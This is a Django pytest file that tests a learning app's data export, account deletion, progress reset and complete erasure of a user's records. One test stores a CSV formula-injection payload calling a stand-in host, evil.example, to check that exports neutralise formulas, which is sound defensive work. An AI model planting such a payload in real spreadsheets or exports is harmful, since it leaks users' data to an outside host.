import csv
import io
import json
import zipfile

import pytest
from axes.models import AccessAttempt, AccessLog
from django.apps import apps
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth import SESSION_KEY, get_user_model
from django.contrib.sessions.models import Session
from django.db import models
from django.db.models.functions import Cast
from django.test import Client

from assessments.models import Assessment, Rating
from practice.models import (
    AIReview,
    Attempt,
    Bookmark,
    PracticeSession,
    QuestionFlag,
    QuestionNote,
    ReviewCard,
)
from tests.factories import (
    DEFAULT_PASSWORD,
    ai_verdict,
    make_ai_review,
    make_assessment,
    make_catalogue,
    make_history,
    make_question,
    make_topic,
    make_user,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def two_users_with_data(alice, bob):
    skills, role = make_catalogue(size=2)
    topics = make_topic(name="Stats"), make_topic(name="Deep learning")
    questions = [make_question(topic=topics[n % 2], title=f"Q{n}") for n in range(4)]
    for user, text in ((alice, "ALICE ANSWER"), (bob, "BOB ANSWER")):
        make_history(user=user, questions=questions, attempts_per_question=2)
        Attempt.objects.filter(user=user).update(answer=text)
        for q in questions:
            ReviewCard.objects.create(user=user, question=q, state=2, due="2030-01-01T00:00Z")
        Bookmark.objects.create(user=user, question=questions[0])
        QuestionNote.objects.create(user=user, question=questions[0], text=f"{text} NOTE")
        QuestionFlag.objects.create(
            user=user, question=questions[1], reason="unclear", comment=f"{text} FLAG"
        )
        make_assessment(user=user, levels={skills[0]: 2, skills[1]: 3}, role=role)
    return topics, questions


def _archive(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(response.content))


def test_export_holds_everything_of_mine_and_nothing_of_others(alice_client, two_users_with_data):
    response = alice_client.get("/accounts/export/")

    assert response["Content-Type"] == "application/zip"
    assert "attachment; filename=" in response["Content-Disposition"]
    archive = _archive(response)
    names = set(archive.namelist())
    for table in (
        "profile",
        "practice_sessions",
        "attempts",
        "review_cards",
        "bookmarks",
        "notes",
        "flags",
        "assessments",
        "ratings",
    ):
        assert {f"{table}.json", f"{table}.csv"} <= names
    everything = b"".join(archive.read(name) for name in names).decode()
    assert (
        "ALICE ANSWER" in everything
        and "ALICE ANSWER NOTE" in everything
        and "ALICE ANSWER FLAG" in everything
    )
    assert "BOB" not in everything and "bob@example.com" not in everything
    attempts = json.loads(archive.read("attempts.json"))
    assert len(attempts) == 8
    assert {row["question__title"] for row in attempts} == {"Q0", "Q1", "Q2", "Q3"}
    rows = list(csv.DictReader(io.StringIO(archive.read("ratings.csv").decode())))
    assert sorted(row["level"] for row in rows) == ["2", "3"]
    assert json.loads(archive.read("profile.json"))[0]["username"] == "alice"


def test_export_holds_the_active_and_wall_time_and_the_time_up_of_a_mock_interview(
    alice_client, alice
):
    make_history(user=alice, questions=[make_question()])
    attempt = Attempt.objects.get(user=alice)
    Attempt.objects.filter(pk=attempt.pk).update(
        status="cut_off", active_seconds=192, wall_seconds=245, seconds_taken=192
    )
    PracticeSession.objects.filter(pk=attempt.session_id).update(
        mode="mock", timed_out=True, clock_started_at=attempt.shown_at
    )

    archive = _archive(alice_client.get("/accounts/export/"))

    [row] = json.loads(archive.read("attempts.json"))
    assert (row["status"], row["active_seconds"], row["wall_seconds"], row["seconds_taken"]) == (
        "cut_off",
        192,
        245,
        192,
    )
    [session] = json.loads(archive.read("practice_sessions.json"))
    assert session["timed_out"] is True and session["clock_started_at"]
    [csv_row] = csv.DictReader(io.StringIO(archive.read("attempts.csv").decode()))
    assert (csv_row["active_seconds"], csv_row["wall_seconds"]) == ("192", "245")
    assert "wall_seconds" in archive.read("README.txt").decode()


def test_export_holds_the_ai_judges_review_of_each_of_my_answers(
    alice_client, alice, bob, two_users_with_data
):
    mine = Attempt.objects.filter(user=alice).order_by("session_id", "position")
    make_ai_review(mine[0], grade=3)
    make_ai_review(mine[1], status=AIReview.Status.FAILED)
    make_ai_review(Attempt.objects.filter(user=bob).first(), grade=0, host="bob-only.example")

    archive = _archive(alice_client.get("/accounts/export/"))

    reviews = json.loads(archive.read("ai_reviews.json"))
    assert [row["status"] for row in reviews] == ["done", "failed"]
    done = reviews[0]
    assert (done["session_id"], done["position"]) == (mine[0].session_id, mine[0].position)
    assert done["question__title"] == mine[0].question.title
    assert (done["model"], done["host"], done["suggested_grade"]) == (
        "test-model",
        "127.0.0.1:9",
        3,
    )
    assert done["verdict"] == ai_verdict(grade=3)
    assert done["requested_at"] and done["finished_at"]
    assert "could not be reached" in reviews[1]["error"]
    rows = list(csv.DictReader(io.StringIO(archive.read("ai_reviews.csv").decode())))
    assert json.loads(rows[0]["verdict"])["points"][0]["quote"] == "report recall"
    assert "bob-only.example" not in b"".join(archive.read(n) for n in archive.namelist()).decode()
    assert json.loads(archive.read("profile.json"))[0]["ai_reviews"] is False
    assert "ai_reviews" in archive.read("README.txt").decode()


def test_export_holds_my_self_assessment_in_progress_marked_as_a_draft(alice_client, alice):
    skills, _ = make_catalogue(size=2)
    make_assessment(user=alice, levels={skills[0]: 1})
    make_assessment(user=alice, levels={skills[1]: 3}, status=Assessment.Status.DRAFT)

    archive = _archive(alice_client.get("/accounts/export/"))

    assessments = json.loads(archive.read("assessments.json"))
    assert [(row["status"], row["completed_at"] is None) for row in assessments] == [
        ("complete", False),
        ("draft", True),
    ]
    ratings = json.loads(archive.read("ratings.json"))
    draft_id = assessments[1]["id"]
    assert [(r["skill__slug"], r["level"]) for r in ratings if r["assessment_id"] == draft_id] == [
        (skills[1].slug, 3)
    ]


def test_export_of_a_new_user_is_valid_and_almost_empty(alice_client):
    archive = _archive(alice_client.get("/accounts/export/"))

    assert json.loads(archive.read("attempts.json")) == []
    assert archive.read("attempts.csv") in (b"\r\n", b"")


def test_delete_needs_the_password_and_keeps_everything_when_wrong(
    alice_client, alice, two_users_with_data
):
    response = alice_client.post("/accounts/delete/", {"password": "wrong"})

    assert "That is not your password. Nothing was deleted." in response.content.decode()
    assert get_user_model().objects.filter(pk=alice.pk).exists()
    assert Attempt.objects.filter(user=alice).count() == 8


def test_delete_removes_everything_of_mine_and_nothing_of_others(
    alice_client, alice, bob, two_users_with_data
):
    before_bob = {
        model: model.objects.filter(user=bob).count()
        for model in (
            Attempt,
            PracticeSession,
            ReviewCard,
            Bookmark,
            QuestionNote,
            QuestionFlag,
            Assessment,
        )
    }

    response = alice_client.post("/accounts/delete/", {"password": DEFAULT_PASSWORD}, follow=True)

    assert "Your account and all of your data are deleted" in response.content.decode()
    assert "_auth_user_id" not in alice_client.session
    assert not get_user_model().objects.filter(pk=alice.pk).exists()
    for model in (
        Attempt,
        PracticeSession,
        ReviewCard,
        Bookmark,
        QuestionNote,
        QuestionFlag,
        Assessment,
    ):
        assert not model.objects.filter(user_id=alice.pk).exists(), model
        assert model.objects.filter(user=bob).count() == before_bob[model], model
    assert not Rating.objects.filter(assessment__user_id=alice.pk).exists()
    assert len(two_users_with_data[1]) == 4  # shared questions stay


def test_delete_removes_the_ai_judges_reviews_of_my_answers(
    alice_client, alice, bob, two_users_with_data
):
    for attempt in Attempt.objects.filter(user__in=[alice, bob]):
        make_ai_review(attempt)
    assert AIReview.objects.filter(user=alice).count() == 8

    alice_client.post("/accounts/delete/", {"password": DEFAULT_PASSWORD})

    assert not AIReview.objects.filter(user_id=alice.pk).exists()
    assert AIReview.objects.filter(user=bob).count() == 8


def test_a_progress_reset_removes_the_reviews_of_the_answers_it_forgets(
    alice_client, alice, two_users_with_data
):
    for attempt in Attempt.objects.filter(user=alice):
        make_ai_review(attempt)

    alice_client.post("/accounts/reset/", {"scope": "all", "confirm": "on"})

    assert not AIReview.objects.filter(user=alice).exists()


def test_delete_page_warns_and_offers_the_export(alice_client):
    page = alice_client.get("/accounts/delete/").content.decode()

    assert "for good" in page and "/accounts/export/" in page


def test_reset_one_topic_keeps_the_rest_and_the_assessments(
    alice_client, alice, bob, two_users_with_data
):
    topics, questions = two_users_with_data

    response = alice_client.post(
        "/accounts/reset/", {"scope": topics[0].slug, "confirm": "on"}, follow=True
    )

    assert (
        "Progress on Stats reset: 4 answers and 2 review cards deleted."
        in response.content.decode()
    )
    assert not Attempt.objects.filter(user=alice, question__topic=topics[0]).exists()
    assert Attempt.objects.filter(user=alice, question__topic=topics[1]).count() == 4
    assert Assessment.objects.filter(user=alice).exists()
    assert Attempt.objects.filter(user=bob).count() == 8


def test_reset_everything_removes_sessions_left_empty(
    alice_client, alice, bob, two_users_with_data
):
    alice_client.post("/accounts/reset/", {"scope": "all", "confirm": "on"})

    assert not Attempt.objects.filter(user=alice).exists()
    assert not PracticeSession.objects.filter(user=alice).exists()
    assert not ReviewCard.objects.filter(user=alice).exists()
    assert Assessment.objects.filter(user=alice).exists()
    assert PracticeSession.objects.filter(user=bob).exists()


def test_reset_without_confirmation_does_nothing(alice_client, alice, two_users_with_data):
    response = alice_client.post("/accounts/reset/", {"scope": "all"})

    assert "Tick the box to confirm; nothing was reset." in response.content.decode()
    assert Attempt.objects.filter(user=alice).count() == 8


def test_data_pages_require_login():
    client = Client()
    for url in ("/accounts/export/", "/accounts/delete/", "/accounts/reset/"):
        assert client.get(url).url.startswith("/accounts/login/")


def test_csv_cells_that_look_like_formulas_are_text_and_json_keeps_them_exact(alice_client, alice):
    question = make_question(title="Bias and variance")
    make_history(user=alice, questions=[question])
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    Attempt.objects.filter(user=alice).update(answer=formula)
    QuestionNote.objects.create(user=alice, question=question, text="- a list")

    archive = _archive(alice_client.get("/accounts/export/"))

    attempt_rows = list(csv.DictReader(io.StringIO(archive.read("attempts.csv").decode())))
    note_rows = list(csv.DictReader(io.StringIO(archive.read("notes.csv").decode())))
    assert attempt_rows[0]["answer"] == "'" + formula
    assert note_rows[0]["text"] == "'- a list"
    assert json.loads(archive.read("attempts.json"))[0]["answer"] == formula
    assert json.loads(archive.read("notes.json"))[0]["text"] == "- a list"


# Strings that appear nowhere else, so that any column holding them names the deleted user.
ERASED_NAME = "qzvexmorrow"
ERASED_EMAIL = "Qzv.Inbox.4417@Example.org"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"


def _log_in(client, username, password=DEFAULT_PASSWORD):
    return client.post("/accounts/login/", {"username": username, "password": password})


def _rows_naming(*, user_id: int, texts: list[str]) -> list[str]:
    """Every column of every table (many-to-many tables too) that points at the user or holds
    one of the texts."""
    user_model = get_user_model()
    found = []
    for model in apps.get_models(include_auto_created=True):
        rows = model._base_manager.all()
        for field in model._meta.concrete_fields:
            where = f"{model._meta.db_table}.{field.column}"
            if field.is_relation and field.related_model is user_model:
                if rows.filter(**{field.attname: user_id}).exists():
                    found.append(where)
            elif isinstance(field, models.CharField | models.TextField | models.JSONField):
                as_text = rows.annotate(scanned=Cast(field.name, models.TextField()))
                for text in texts:
                    if as_text.filter(scanned__icontains=text).exists():
                        found.append(f"{where} holds {text!r}")
    return found


def _sessions_of(user_id: int) -> list[str]:
    """Keys of stored sessions, in any session table, that are logged in as the user."""
    session_models = {Session, Client().session.get_model_class()}
    return [
        row.session_key
        for model in session_models
        for row in model.objects.all()
        if row.get_decoded().get(SESSION_KEY) == str(user_id)
    ]


def test_after_deletion_no_table_names_the_user(editor):
    user = make_user(username=ERASED_NAME, email=ERASED_EMAIL)
    user.profile.display_name = f"{ERASED_NAME} the learner"
    user.profile.save()
    skills, role = make_catalogue(size=2)
    questions = [make_question(), make_question()]
    make_history(user=user, questions=questions, attempts_per_question=2)
    Bookmark.objects.create(user=user, question=questions[0])
    QuestionNote.objects.create(user=user, question=questions[0], text="My note")
    QuestionFlag.objects.create(user=user, question=questions[1], reason="unclear")
    make_assessment(user=user, levels={skills[0]: 2, skills[1]: 3}, role=role)
    make_ai_review(Attempt.objects.filter(user=user).first())
    LogEntry.objects.log_actions(
        user_id=editor.pk,
        queryset=[user.profile],
        action_flag=CHANGE,
        change_message="Changed display name.",
    )
    # Someone mistypes the password, once with the username and once with the e-mail.
    stranger = Client(REMOTE_ADDR="198.51.100.9", HTTP_USER_AGENT=BROWSER)
    _log_in(stranger, ERASED_NAME, "wrong-password")
    _log_in(stranger, ERASED_EMAIL, "wrong-password")
    # Logged in on a phone, which stays logged in, and on a laptop, which deletes the account.
    phone = Client(REMOTE_ADDR="198.51.100.10", HTTP_USER_AGENT=BROWSER)
    laptop = Client(REMOTE_ADDR="198.51.100.11", HTTP_USER_AGENT=BROWSER)
    assert _log_in(phone, ERASED_NAME).status_code == 302
    assert _log_in(laptop, ERASED_NAME).status_code == 302
    assert AccessLog.objects.filter(username=ERASED_NAME).count() == 2
    assert AccessAttempt.objects.filter(username=ERASED_EMAIL).exists()
    assert _sessions_of(user.pk)
    assert _rows_naming(user_id=user.pk, texts=[ERASED_NAME, ERASED_EMAIL])

    response = laptop.post("/accounts/delete/", {"password": DEFAULT_PASSWORD}, follow=True)

    assert "Your account and all of your data are deleted" in response.content.decode()
    remaining = _rows_naming(user_id=user.pk, texts=[ERASED_NAME, ERASED_EMAIL])
    assert remaining == [], "\n".join(remaining)
    assert _sessions_of(user.pk) == []
    assert phone.get("/dashboard/").url.startswith("/accounts/login/")
    assert get_user_model().objects.filter(pk=editor.pk).exists()


def test_deletion_keeps_other_users_log_ins_and_sessions(alice):
    bob = make_user(username="bob")
    bobs_browser = Client(REMOTE_ADDR="198.51.100.12")
    _log_in(bobs_browser, "bob")
    _log_in(Client(REMOTE_ADDR="198.51.100.12"), "bob", "wrong-password")
    alices_browser = Client(REMOTE_ADDR="198.51.100.13")
    _log_in(alices_browser, "alice")

    alices_browser.post("/accounts/delete/", {"password": DEFAULT_PASSWORD})

    assert AccessLog.objects.filter(username="bob").count() == 1
    assert AccessAttempt.objects.filter(username="bob").count() == 1
    assert _sessions_of(bob.pk)
    assert bobs_browser.get("/dashboard/").status_code == 200


def test_export_holds_my_log_in_history(alice):
    make_user(username="bob")
    browser = Client(REMOTE_ADDR="198.51.100.14", HTTP_USER_AGENT=BROWSER)
    _log_in(browser, "alice")
    browser.post("/accounts/logout/")
    _log_in(Client(REMOTE_ADDR="198.51.100.15"), "bob")
    _log_in(browser, "alice")

    archive = _archive(browser.get("/accounts/export/"))

    logins = json.loads(archive.read("logins.json"))
    assert [(row["ip_address"], row["user_agent"]) for row in logins] == [
        ("198.51.100.14", BROWSER)
    ] * 2
    assert logins[0]["logout_time"] is not None and logins[1]["logout_time"] is None
    assert logins[0]["attempt_time"] < logins[1]["attempt_time"]
    rows = list(csv.DictReader(io.StringIO(archive.read("logins.csv").decode())))
    assert [row["ip_address"] for row in rows] == ["198.51.100.14"] * 2
    assert "logins" in archive.read("README.txt").decode()
